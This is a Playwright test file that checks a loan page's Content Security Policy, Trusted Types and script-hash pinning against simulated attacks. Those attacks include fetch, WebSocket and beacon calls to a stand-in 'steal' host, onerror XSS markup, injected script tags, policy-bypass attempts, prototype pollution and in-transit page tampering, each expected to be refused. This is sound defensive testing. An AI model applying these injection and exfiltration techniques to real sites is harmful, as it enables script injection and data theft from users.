import type { Page } from '@playwright/test'
import { servedBuild } from '../../fixtures/releases/variants.ts'
import { expect, test } from '../../fixtures/test.ts'

const INTRUDE = 'globalThis.intruded = true'

test('the page’s own rules leave no way around the pins', async ({ page }) => {
  const headers = (await page.goto('/loan'))?.headers() ?? {}
  const policy = headers['content-security-policy']
  expect(policy).toContain("script-src 'self';")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).toMatch(/trusted-types default highcharts documents;/)
  expect(policy).not.toMatch(/unsafe|allow-duplicates/)
  expect(headers['integrity-policy']).toBe('blocked-destinations=(script)')
})

test('the first script asks to be compiled whole while it arrives', async ({ page, request }) => {
  await page.goto('/loan')
  const scripts = await page
    .locator('script[src*="/assets/"]')
    .evaluateAll(all => all.map(script => script.getAttribute('src') ?? ''))
  const first = scripts.find(src => src.includes('/main.')) ?? ''
  expect(await (await request.get(first)).text()).toMatch(/^\/\/# allFunctionsCalledOnLoad\n/)
})

test('a page talks to its own site only', async ({ visitor: page }) => {
  const headers = (await page.goto('/loan'))?.headers() ?? {}
  expect(headers['content-security-policy']).toContain("connect-src 'self';")
  const received = await page.evaluate(async () => {
    const violations: string[] = []
    addEventListener('securitypolicyviolation', event => violations.push(event.blockedURI))
    await fetch('https://elsewhere.example/steal').catch(() => {})
    try {
      new WebSocket('wss://elsewhere.example/steal')
    } catch {}
    navigator.sendBeacon('https://elsewhere.example/beacon')
    const own = new WebSocket(`ws://${location.host}/market`)
    const isOpen = await new Promise(resolve => {
      own.onopen = () => resolve(true)
      own.onerror = () => resolve(false)
    })
    own.close()
    return { violations, isOpen }
  })
  expect(received).toEqual({
    violations: [
      'https://elsewhere.example/steal',
      'wss://elsewhere.example/steal',
      'https://elsewhere.example/beacon',
    ],
    isOpen: true,
  })
})

test('an unpinned script never runs, however it is brought in', async ({ visitor: page }) => {
  await page.route('**/assets/intruder.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
  )
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const refusals = await page.evaluate(code => {
    const tries: Record<string, () => void> = {
      address() {
        document.createElement('script').src = '/assets/intruder.js'
      },
      text() {
        document.createElement('script').textContent = code
      },
      markup() {
        document.createElement('div').innerHTML = `<img src="x" onerror="${code}">`
      },
      timer() {
        setTimeout(code)
      },
    }
    return Object.entries(tries).map(([name, attempt]) => {
      try {
        attempt()
        return `${name}: let through`
      } catch (error) {
        return `${name}: ${error instanceof Error ? error.name : error}`
      }
    })
  }, INTRUDE)
  expect(refusals).toEqual(['address: TypeError', 'text: TypeError', 'markup: TypeError', 'timer: TypeError'])
  expect(await hasIntruded(page)).toBe(false)
})

test('a remote makes no policy of its own, and admits no script, whatever it does to the page', async ({
  visitor: page,
}) => {
  await page.route('**/assets/intruder.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
  )
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const outcomes = await page.evaluate(attack)
  expect(outcomes).toEqual({
    'a name of its own': 'TypeError',
    'the default policy again': 'TypeError',
    'the browser’s own function': 'TypeError',
    'another function in its place': 'TypeError',
    'a handed out policy for addresses': 'TypeError',
    'an entry in the table': 'TypeError',
    'another table': 'TypeError',
    'changed prototypes': 'TypeError',
  })
  expect(await hasIntruded(page)).toBe(false)
})

/** A frame has a separate realm and trusted-type policies, but its scripts still need a hash and this origin. */
test('a policy made in a frame brings in no script from elsewhere and none without a hash', async ({
  visitor: page,
}) => {
  await page.route('**/intruder.js', route =>
    route.fulfill({
      contentType: 'text/javascript',
      body: INTRUDE,
      headers: { 'access-control-allow-origin': '*' },
    }),
  )
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const outcomes = await page.evaluate(async () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    const factory = Reflect.get(frame.contentWindow ?? {}, 'trustedTypes')
    const policy = factory.createPolicy('documents', { createScriptURL: (url: string) => url })
    const tryTo = (address: string) =>
      new Promise<string>(resolve => {
        const script = document.createElement('script')
        script.src = policy.createScriptURL(address)
        script.crossOrigin = 'anonymous'
        script.addEventListener('load', () => resolve('ran'))
        script.addEventListener('error', () => resolve('refused'))
        document.head.append(script)
      })
    return [await tryTo('https://elsewhere.example/intruder.js'), await tryTo('/assets/intruder.js')]
  })
  expect(outcomes).toEqual(['refused', 'refused'])
  expect(await hasIntruded(page)).toBe(false)
})

test('a page that was altered on its way runs none of what was added', async ({ visitor: page }) => {
  await page.route('**/assets/intruder.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: INTRUDE }),
  )
  await page.route('**/loan', async route => {
    const response = await route.fetch()
    const added = `<script>${INTRUDE}</script><script src="/assets/intruder.js"></script><img src="x" onerror="${INTRUDE}">`
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${added}</body>`) })
  })
  const refused = page.waitForEvent('console', message => /Content Security Policy/.test(message.text()))
  await page.goto('/loan')
  await refused
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  expect(await page.locator('script[src="/assets/intruder.js"]').count()).toBe(1)
  expect(await hasIntruded(page)).toBe(false)
})

test('other bytes at a pinned address never run, with the hash or without one', async ({
  visitor: page,
  site,
}) => {
  const { manifest } = await servedBuild(site, 'mfe-loan')
  await page.goto('/loan')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Loans')
  const address = `/remotes/mfe-loan/${manifest.version}/${manifest.entry}`
  await page.route(`**${address}`, route => route.fulfill({ contentType: 'text/javascript', body: INTRUDE }))
  for (const integrity of [manifest.files[manifest.entry]?.sha384 ?? '', '']) {
    const outcome = await page.evaluate(
      ([src = '', hash = '']) =>
        new Promise<string>(resolve => {
          const script = document.createElement('script')
          script.src = new URL(src, document.baseURI).href
          script.crossOrigin = 'anonymous'
          script.integrity = hash
          script.addEventListener('load', () => resolve('ran'))
          script.addEventListener('error', () => resolve('refused'))
          document.head.append(script)
        }),
      [address, integrity],
    )
    expect(outcome).toBe('refused')
  }
  expect(await hasIntruded(page)).toBe(false)
})

function attack(): Record<string, string> {
  const policies = Reflect.get(globalThis, 'trustedTypes')
  const own = Object.getPrototypeOf(policies).createPolicy
  const address = '/assets/intruder.js'
  const rules = { createScriptURL: (url: string) => url }
  const load = (url: string) => {
    document.createElement('script').src = url
  }
  const tries: Record<string, () => void> = {
    'a name of its own': () => policies.createPolicy('mine', rules),
    'the default policy again': () => own.call(policies, 'default', rules),
    'the browser’s own function': () => own.call(policies, 'highcharts', rules),
    'another function in its place': () => Object.defineProperty(policies, 'createPolicy', { value: own }),
    'a handed out policy for addresses': () =>
      policies.createPolicy('documents', rules).createScriptURL(address),
    'an entry in the table'() {
      Reflect.get(globalThis, '__pinned')[address] = 'sha384-mine'
      load(address)
    },
    'another table': () =>
      Object.defineProperty(globalThis, '__pinned', { value: { [address]: 'sha384-mine' } }),
    'changed prototypes'() {
      const { get } = Map.prototype
      const { has } = Set.prototype
      try {
        Reflect.set(Object.prototype, address, 'sha384-mine')
        Map.prototype.get = () => 'sha384-mine'
        Set.prototype.has = () => true
        load(address)
      } finally {
        // Playwright needs these intact to return the outcome.
        Object.assign(Map.prototype, { get })
        Object.assign(Set.prototype, { has })
        Reflect.deleteProperty(Object.prototype, address)
      }
    },
  }
  const outcomes: Record<string, string> = {}
  for (const name of Object.keys(tries)) {
    try {
      tries[name]?.()
      outcomes[name] = 'let through'
    } catch (error) {
      outcomes[name] = error instanceof Error ? error.name : String(error)
    }
  }
  return outcomes
}

function hasIntruded(page: Page): Promise<boolean> {
  return page.evaluate(() => 'intruded' in globalThis)
}
